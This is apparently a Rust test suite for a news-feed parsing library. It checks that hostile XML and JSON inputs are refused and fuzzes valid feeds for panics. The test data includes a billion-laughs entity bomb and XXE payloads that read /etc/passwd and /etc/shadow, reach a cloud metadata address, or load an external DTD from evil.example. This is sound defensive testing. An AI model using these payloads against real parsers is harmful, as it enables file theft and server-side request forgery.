//! Hostile inputs: each is refused with a clear error, quickly, without panicking; and
//! random mutations of valid documents never panic.
#![allow(clippy::unwrap_used)]

use std::time::{Duration, Instant};

use newsdesk_ingest::{detect, parse_date, parse_feed, parse_items, IngestError, Limits};

/// Debug build on a shared, noisy machine: generous (a run under load took 2.7 s where it takes
/// 0.5 s alone), but far below what an attack would cost: a quadratic path on these megabyte
/// inputs takes minutes.
const QUICK: Duration = Duration::from_secs(4);

fn run(bytes: &[u8]) -> (Result<usize, IngestError>, Duration) {
    let start = Instant::now();
    let r = parse_items("hostile", bytes, None, None, &Limits::default()).map(|v| v.len());
    (r, start.elapsed())
}

fn assert_refused(name: &str, bytes: &[u8], want: fn(&IngestError) -> bool) {
    let (r, took) = run(bytes);
    println!("{name}: {r:?} in {took:?}");
    let err = r.expect_err(name);
    assert!(want(&err), "{name}: unexpected error {err}");
    assert!(!err.to_string().is_empty());
    assert!(took < QUICK, "{name} took {took:?}");
}

#[test]
fn billion_laughs_is_refused() {
    let doc = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title></channel></rss>"#;
    assert_refused("billion laughs", doc.as_bytes(), |e| *e == IngestError::Dtd);
}

#[test]
fn external_entities_are_refused() {
    for (name, doc) in [
        (
            "XXE file",
            r#"<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&xxe;</title></channel></rss>"#,
        ),
        (
            "XXE network",
            r#"<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><feed xmlns="http://www.w3.org/2005/Atom"><title>&xxe;</title></feed>"#,
        ),
        (
            "parameter entity",
            r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>"#,
        ),
        (
            "NewsML-G2 XXE",
            r#"<!DOCTYPE newsItem [<!ENTITY x SYSTEM "file:///etc/shadow">]><newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="g"><contentMeta><headline>&x;</headline></contentMeta></newsItem>"#,
        ),
    ] {
        assert_refused(name, doc.as_bytes(), |e| *e == IngestError::Dtd);
    }
    // An external DTD reference without an internal subset is harmless (never fetched).
    let plain = br#"<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>t</title><item><title>i</title></item></channel></rss>"#;
    assert_eq!(run(plain).0, Ok(1));
}

#[test]
fn deep_nesting_is_refused() {
    let mut xml = String::from(r#"<rss version="2.0"><channel>"#);
    xml.push_str(&"<x>".repeat(10_000));
    xml.push_str(&"</x>".repeat(10_000));
    xml.push_str("</channel></rss>");
    assert_refused("10,000-deep XML", xml.as_bytes(), |e| {
        *e == IngestError::TooDeep
    });

    let json = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    assert_refused("10,000-deep JSON", json.as_bytes(), |e| {
        *e == IngestError::TooDeep
    });
    let json = format!(
        r#"{{"uri":"x","a":{}1{}}}"#,
        r#"{"a":"#.repeat(100),
        "}".repeat(100)
    );
    assert_refused("100-deep JSON object", json.as_bytes(), |e| {
        *e == IngestError::TooDeep
    });
}

#[test]
fn a_million_nodes_are_refused() {
    let mut xml = String::from(r#"<rss version="2.0"><channel>"#);
    xml.push_str(&"<i/>".repeat(1_000_000));
    xml.push_str("</channel></rss>");
    assert_refused("1,000,000 XML nodes", xml.as_bytes(), |e| {
        *e == IngestError::TooManyNodes
    });

    let json = format!("[{}0]", "0,".repeat(1_000_000));
    assert_refused("1,000,000 JSON values", json.as_bytes(), |e| {
        *e == IngestError::TooManyNodes
    });
}

#[test]
fn invalid_utf8_truncation_and_size() {
    let mut bad =
        br#"<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>"#.to_vec();
    bad.extend_from_slice(&[0xff, 0xfe, 0xc3, 0x28]);
    bad.extend_from_slice(b"</title></channel></rss>");
    assert_refused("invalid UTF-8", &bad, |e| {
        matches!(e, IngestError::Encoding(_))
    });

    let json_bad = [b'{', b'"', b'a', b'"', b':', b'"', 0xff, b'"', b'}'];
    assert_refused("invalid UTF-8 JSON", &json_bad, |e| {
        matches!(e, IngestError::Encoding(_))
    });

    let truncated = br#"<rss version="2.0"><channel><title>Cut</title><item><title>half"#;
    assert_refused("truncated XML", truncated, |e| {
        matches!(e, IngestError::Malformed(_))
    });
    let truncated_json = br#"{"uri":"x","headline":"cut"#;
    assert_refused("truncated JSON", truncated_json, |e| {
        matches!(e, IngestError::Malformed(_))
    });

    let huge = format!(
        r#"<rss version="2.0" a="{}"><channel/></rss>"#,
        "x".repeat(11 * 1024 * 1024)
    );
    assert_refused("11 MiB attribute", huge.as_bytes(), |e| {
        *e == IngestError::TooLarge
    });

    // A big attribute under the size cap costs linear time.
    let big = format!(
        r#"<rss version="2.0"><channel><item><title>t</title><link a="{}">http://e.com/</link></item></channel></rss>"#,
        "&amp;x".repeat(800_000)
    );
    let (r, took) = run(big.as_bytes());
    println!("5 MiB attribute: {r:?} in {took:?}");
    assert_eq!(r, Ok(1));
    assert!(took < QUICK * 2, "big attribute took {took:?}");

    let small = Limits {
        max_bytes: 100,
        ..Limits::default()
    };
    assert_eq!(
        parse_feed(&[b' '; 101], None, None, &small).err(),
        Some(IngestError::TooLarge)
    );
}

#[test]
fn errors_read_clearly() {
    assert_eq!(
        IngestError::Dtd.to_string(),
        "document type declarations with an internal subset or entities are refused"
    );
    assert!(IngestError::TooDeep
        .to_string()
        .contains("nested too deeply"));
    assert!(IngestError::TooManyNodes
        .to_string()
        .contains("too many nodes"));
    assert!(IngestError::TooLarge.to_string().contains("too large"));
}

/// A small deterministic generator (xorshift), so failures reproduce.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            usize::try_from(self.next() % n as u64).unwrap()
        }
    }
}

const SEEDS: &[&str] = &[
    r#"<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>T &amp; co</title><link>http://e.com/</link><item><title>Héllo &eacute;</title><link>/a?b=1&amp;c=2</link><guid isPermaLink="false">g1</guid><description>&lt;p&gt;x&lt;/p&gt;</description><content:encoded><![CDATA[<p onclick="x()">y<script>z</script></p>]]></content:encoded><pubDate>Thu, 09 Feb 2006 23:59:45 +0000</pubDate><dc:creator>A</dc:creator><category>c</category></item></channel></rss>"#,
    r#"<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://e.com/x/" xml:lang="en"><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">A <b>b</b></div></title><entry><id>tag:e.com,2024:1</id><title type="html">&lt;b&gt;t&lt;/b&gt;</title><link href="p.html"/><updated>2024-01-02T03:04:05Z</updated><summary type="text">s</summary><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><a href="q">q</a></div></content><author><name>N</name><email>n@e.com</email></author><category term="k"/></entry></feed>"#,
    r#"{"version":"https://jsonfeed.org/version/1.1","title":"J","home_page_url":"https://e.com/","items":[{"id":"1","url":"/a","title":"t","content_html":"<p>x</p>","date_published":"2024-01-02T03:04:05Z","tags":["a"],"authors":[{"name":"N"}]}]}"#,
    r#"{"uri":"urn:x","version":2,"pubstatus":"usable","headline":"H","body_html":"<p>b</p>","subject":[{"code":"1","scheme":"http://cv.iptc.org/newscodes/mediatopic/"}],"place":[{"name":"Kenya","code":"KE"}],"urgency":3}"#,
    r#"<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:g" version="2" xml:lang="en"><rightsInfo><usageTerms>u</usageTerms></rightsInfo><itemMeta><pubStatus qcode="stat:withheld"/><versionCreated>2024-01-02T03:04:05Z</versionCreated></itemMeta><contentMeta><urgency>4</urgency><located qcode="geo:1"><name>Nairobi</name><broader type="cptype:country" qcode="iso3166-1a2:KE"><name>Kenya</name></broader></located><subject qcode="medtop:04000000"><name>economy</name></subject><headline>H</headline></contentMeta><contentSet><inlineXML><html xmlns="http://www.w3.org/1999/xhtml"><body><p>b</p></body></html></inlineXML></contentSet></newsItem>"#,
];

const TOKENS: &[&[u8]] = &[
    b"<",
    b">",
    b"&",
    b"&amp;",
    b"&#",
    b"&#x110000;",
    b"]]>",
    b"<![CDATA[",
    b"<!DOCTYPE x [",
    b"<!--",
    b"\xff",
    b"\xc3",
    b"\0",
    b"\"",
    b"'",
    b"{",
    b"}",
    b"[",
    b"]",
    b":",
    b",",
    b"</",
    b"/>",
    b"xmlns:a=\"\"",
    b"xml:base=\"::\"",
    b"\xef\xbb\xbf",
    b"encoding=\"utf-16\"",
];

#[test]
fn mutated_documents_never_panic() {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let limits = Limits::default();
    let mut outcomes = [0usize; 2];
    let start = Instant::now();
    for seed in SEEDS {
        let original = seed.as_bytes();
        // The unmutated seed must parse.
        assert!(
            parse_items("fuzz", original, None, None, &limits).is_ok(),
            "seed failed: {seed}"
        );
        for _ in 0..1500 {
            let mut doc = original.to_vec();
            for _ in 0..=rng.below(4) {
                let at = rng.below(doc.len() + 1);
                match rng.below(6) {
                    0 if !doc.is_empty() => {
                        let i = rng.below(doc.len());
                        doc[i] = u8::try_from(rng.below(256)).unwrap();
                    }
                    1 => {
                        let end = (at + rng.below(16)).min(doc.len());
                        doc.drain(at..end);
                    }
                    2 => {
                        let tok = TOKENS[rng.below(TOKENS.len())];
                        doc.splice(at..at, tok.iter().copied());
                    }
                    3 => {
                        let end = (at + rng.below(32)).min(doc.len());
                        let chunk = doc[at..end].to_vec();
                        doc.splice(at..at, chunk);
                    }
                    4 => doc.truncate(at),
                    _ => {
                        let i = rng.below(doc.len().max(1));
                        if let Some(b) = doc.get_mut(i) {
                            *b ^= 1 << rng.below(8);
                        }
                    }
                }
            }
            let a = parse_items(
                "fuzz",
                &doc,
                Some("text/xml; charset=utf-8"),
                Some("http://e.com/"),
                &limits,
            );
            let _ = parse_feed(&doc, None, None, &limits);
            let _ = detect(&doc, None);
            outcomes[usize::from(a.is_ok())] += 1;
        }
    }
    println!(
        "fuzz: {} mutations, {} parsed, {} refused, in {:?}",
        outcomes[0] + outcomes[1],
        outcomes[1],
        outcomes[0],
        start.elapsed()
    );
}

#[test]
fn dates_never_panic() {
    let mut rng = Rng(42);
    let alphabet = b"0123456789 :+-TZ,./()ADEFGJMNOPSTUWabcdeghijlmnoprstuvyz\t";
    for _ in 0..20_000 {
        let len = rng.below(40);
        let s: String = (0..len)
            .map(|_| char::from(alphabet[rng.below(alphabet.len())]))
            .collect();
        let _ = parse_date(&s);
    }
    for s in [
        "9999-12-31T23:59:59-23:59",
        "0000-01-01T00:00:00+23:59",
        "Thu, 31 Dec 262143 23:59:59 +2359",
        "-1-01-01",
        "2024-02-30",
        "24:00",
    ] {
        let _ = parse_date(s);
    }
}

/// The HTML canonicaliser and plain-text-or-HTML guess stay linear on pathological text.
#[test]
fn html_canonicaliser_is_linear() {
    let patterns = [
        "<a '",
        "<a \"x\"y",
        "&#",
        "&#x",
        "&a",
        "<!--",
        "<![CDATA[",
        "]",
        "<",
        "</",
        "<a/",
        "<?",
        "<b x=",
        "&#146;",
        "<br/>",
    ];
    for p in patterns {
        let text = p.repeat(2_000_000 / p.len());
        let start = Instant::now();
        let out = newsdesk_ingest::normalize_html(&text);
        let took = start.elapsed();
        println!(
            "canonical {p:?} x {}: {} bytes in {took:?}",
            text.len() / p.len(),
            out.len()
        );
        assert!(took < QUICK * 2, "{p:?} took {took:?}");
    }
    let xml = format!(
        "<rss><channel><item><title><![CDATA[{}]]></title></item></channel></rss>",
        "<b>&amp;</b> &#146;".repeat(250_000)
    );
    let (r, took) = run(xml.as_bytes());
    println!("5 MiB HTML-looking title: {r:?} in {took:?}");
    assert_eq!(r, Ok(1));
    assert!(took < QUICK * 2, "took {took:?}");
}
